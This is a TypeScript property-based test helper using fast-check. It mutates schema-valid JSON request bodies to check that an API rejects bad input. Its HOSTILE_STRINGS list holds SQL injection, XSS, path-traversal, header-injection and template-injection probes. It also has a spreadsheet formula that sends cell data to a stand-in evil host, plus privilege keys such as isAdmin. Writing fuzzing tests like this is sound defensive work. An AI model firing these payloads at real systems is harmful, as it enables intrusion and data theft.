import fc from 'fast-check';
import { type JsonSchema, jsonType, typesOf, validValue } from './schema-arbitrary.js';

/**
 * Hostile strings (G16, G17): injection payloads, unicode edge cases and sizes. None contains a file path,
 * `node_modules` or a stack frame, so an answer that echoes one of them can never look like a leak.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE persons; --",
  '" OR ""="',
  "1' UNION SELECT username, password_hash FROM users --",
  '%',
  '_',
  '\\',
  "\\'",
  '$1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, sent as text
  '${7*7}',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u200b\u200c\u200d\ufeff',
  '\u202eevil\u202c',
  'שלום עולם',
  'مرحبا',
  'Türkmenistan Aşgabat ňüöşçýäž',
  'Ашхабад Тёмная ЁЖЫК',
  'İı ǅ ß ﬃ',
  'Z̴̡̪̫̈́͊a̸̛̞l̴g̷o̶',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\r\n\r\nX-Injected: 1',
  ' ',
  '',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  'NaN',
  'Infinity',
  '1e309',
  '0x1F',
  '9007199254740993',
  '2026-02-30',
  '2026-13-01T25:61:61Z',
  '0000-00-00',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '__proto__',
  'constructor',
  'toString',
];

/** Strings a real client could send, biased to the hostile corpus; sizes up to twice the body limit. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('a', 'Ж', '\u0000', '😀', "'", '\ud800'),
        fc.constantFrom(121, 301, 1001, 20_001, 70_000),
      )
      .map(([c, n]) => c.repeat(n)),
  },
);

/** Nested arrays/objects deeper than the JSON depth limit (32), or just under it. */
export const deepNesting: fc.Arbitrary<unknown> = fc
  .tuple(fc.constantFrom(31, 33, 64, 500), fc.boolean())
  .map(([depth, arrays]) => {
    let node: unknown = 'deep';
    for (let i = 0; i < depth; i++) node = arrays ? [node] : { a: node };
    return node;
  });

/** A value of some JSON type the schema does not accept (or any odd value when it accepts everything). */
function wrongType(schema: JsonSchema): fc.Arbitrary<unknown> {
  const accepted = new Set(typesOf(schema));
  if (accepted.has('number')) accepted.add('integer');
  const candidates: Array<[string, fc.Arbitrary<unknown>]> = [
    ['string', fc.constantFrom('1', 'true', 'null', '[]', '{}', 'x')],
    ['integer', fc.constantFrom(0, -1, 1, 2 ** 31, 2 ** 53 + 2, -(2 ** 63))],
    ['number', fc.constantFrom(0.5, -0.000001, 1e308, -1e308, 5e-324)],
    ['boolean', fc.boolean()],
    ['null', fc.constant(null)],
    ['array', fc.constantFrom([], [1], ['a', null], [[]])],
    ['object', fc.constantFrom({}, { a: 1 }, { length: 1 }, { toString: 'x' })],
  ];
  const wrong = candidates.filter(([type]) => !accepted.has(type)).map(([, arb]) => arb);
  return wrong.length > 0 ? fc.oneof(...wrong) : fc.constant(undefined);
}

/** Numbers at and just past the schema's bounds, and non-integers for integers. */
function boundaryNumber(schema: JsonSchema): fc.Arbitrary<unknown> {
  const values: number[] = [0, -1, 2 ** 53, -(2 ** 53), 1e21];
  for (const b of [schema.minimum, schema.maximum, schema.exclusiveMinimum, schema.exclusiveMaximum])
    if (b !== undefined) values.push(b, b - 1, b + 1, b + 0.5, b - 0.5);
  return fc.constantFrom(...values);
}

/** A string just past the schema's length bounds. */
function lengthPast(schema: JsonSchema): fc.Arbitrary<unknown> {
  const out: string[] = [];
  if (schema.maxLength !== undefined)
    out.push('y'.repeat(schema.maxLength + 1), 'Ý'.repeat(schema.maxLength + 1));
  if (schema.minLength !== undefined && schema.minLength > 0) out.push('y'.repeat(schema.minLength - 1));
  return out.length > 0 ? fc.constantFrom(...out) : hostileString;
}

interface Node {
  path: Array<string | number>;
  schema: JsonSchema;
  value: unknown;
}

/** The schema that matches a value among anyOf/oneOf/type alternatives (the first whose type fits). */
function resolve(schema: JsonSchema, value: unknown): JsonSchema {
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (!alternatives) return schema;
  const t = jsonType(value);
  const fit = alternatives.find((a) => {
    const types = typesOf(a);
    return types.includes(t) || (t === 'integer' && types.includes('number'));
  });
  return fit ? resolve(fit, value) : schema;
}

/** Every node of a value with the schema that describes it. */
function nodesOf(
  schema: JsonSchema,
  value: unknown,
  path: Array<string | number> = [],
  out: Node[] = [],
): Node[] {
  const s = resolve(schema, value);
  out.push({ path, schema: s, value });
  if (Array.isArray(value) && s.items) {
    value.forEach((item, i) => {
      nodesOf(s.items!, item, [...path, i], out);
    });
  } else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      const sub =
        s.properties?.[k] ?? (typeof s.additionalProperties === 'object' ? s.additionalProperties : {});
      nodesOf(sub, v, [...path, k], out);
    }
  }
  return out;
}

function setAt(root: unknown, path: Array<string | number>, value: unknown, remove = false): unknown {
  if (path.length === 0) return value;
  const clone = structuredClone(root) as Record<string | number, unknown>;
  let node = clone;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path[path.length - 1]!;
  if (remove) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else node[last] = value;
  return clone;
}

/** Keys a client must never set, prototype keys, and plain unknown keys. */
const EXTRA_KEYS = ['id', 'version', 'ownerAgencyId', 'createdBy', 'permissions', 'isAdmin', 'zzz', '$where'];

/** A mutation of one node of a valid value: always meant to be refused (or to be harmless). */
export type Mutation =
  | {
      kind: 'wrong-type' | 'hostile-string' | 'boundary' | 'length' | 'deep';
      path: Array<string | number>;
      value: unknown;
    }
  | { kind: 'remove-required'; path: Array<string | number> }
  | { kind: 'extra-property'; path: Array<string | number>; key: string; value: unknown };

function mutationOf(nodes: Node[]): fc.Arbitrary<Mutation> {
  return fc.nat({ max: nodes.length - 1 }).chain((i) => {
    const node = nodes[i]!;
    const { path, schema } = node;
    const options: fc.Arbitrary<Mutation>[] = [
      wrongType(schema).map((value) => ({ kind: 'wrong-type' as const, path, value })),
      deepNesting.map((value) => ({ kind: 'deep' as const, path, value })),
    ];
    const types = typesOf(schema);
    if (types.includes('string') || typeof node.value === 'string') {
      const hostile = hostileString.map((value) => ({ kind: 'hostile-string' as const, path, value }));
      options.push(hostile, hostile); // twice as likely: what most often reaches the database
      options.push(lengthPast(schema).map((value) => ({ kind: 'length' as const, path, value })));
    }
    if (types.includes('integer') || types.includes('number'))
      options.push(boundaryNumber(schema).map((value) => ({ kind: 'boundary' as const, path, value })));
    if (types.includes('array') && Array.isArray(node.value) && schema.items) {
      const n = (schema.maxItems ?? 50) + 1;
      options.push(
        fc
          .array(validValue(schema.items), { minLength: n, maxLength: n })
          .map((value) => ({ kind: 'length' as const, path, value })),
      );
    }
    if (node.value && typeof node.value === 'object' && !Array.isArray(node.value)) {
      const present = Object.keys(node.value);
      const required = (schema.required ?? []).filter((k) => present.includes(k));
      if (required.length > 0)
        options.push(
          fc.constantFrom(...required).map((k) => ({ kind: 'remove-required' as const, path: [...path, k] })),
        );
      options.push(
        fc
          .tuple(
            fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ minLength: 1, maxLength: 10 })),
            fc.oneof(hostileString, fc.integer(), fc.constant(null), fc.constant({ a: 1 })),
          )
          .filter(([key]) => !present.includes(key))
          .map(([key, value]) => ({ kind: 'extra-property' as const, path, key, value })),
      );
    }
    return fc.oneof(...options);
  });
}

/** Applies a mutation to a value (returns a new value). */
export function applyMutation(value: unknown, m: Mutation): unknown {
  if (m.kind === 'remove-required') return setAt(value, m.path, undefined, true);
  if (m.kind === 'extra-property') return setAt(value, [...m.path, m.key], m.value);
  return setAt(value, m.path, m.value);
}

/** A schema-valid value with one node mutated: wrong type, hostile string, bounds, missing or extra keys. */
export function mutatedValue(schema: JsonSchema): fc.Arbitrary<{ value: unknown; mutation: Mutation }> {
  return validValue(schema).chain((value) =>
    mutationOf(nodesOf(schema, value)).map((mutation) => ({
      value: applyMutation(value, mutation),
      mutation,
    })),
  );
}
